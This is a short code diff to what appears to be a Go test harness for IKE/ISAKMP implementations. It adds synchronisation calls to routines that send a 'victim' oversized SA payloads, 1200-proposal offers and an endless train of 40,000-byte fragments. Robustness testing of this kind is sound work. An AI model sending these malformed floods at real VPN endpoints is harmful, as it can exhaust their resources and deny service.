@@ -91,6 +91,7 @@ func longDatagrams(a *attack) {
 		a.send(a.opening(isakmp.Payload{Type: isakmp.SA, Body: offerIKE(255).Append(nil)}))
 		a.send(a.opening(isakmp.Payload{Type: isakmp.SA, Body: manyProposals(1200)}))
 		a.send(fitted(append(a.opening(isakmp.Payload{Type: isakmp.SA, Body: f.offer}), huge...)))
+		a.must(a.fence()) // the victim keeps few of these in its queue
 	}
 }
 
@@ -215,6 +216,7 @@ func fragments(a *attack) {
 	for n := range 40 { // one message that never ends
 		a.send(fragment(h, 7, byte(n+1), 0, make([]byte, 40000)))
 	}
+	a.must(a.fence())
 	a.must(f.agree())
 }
 
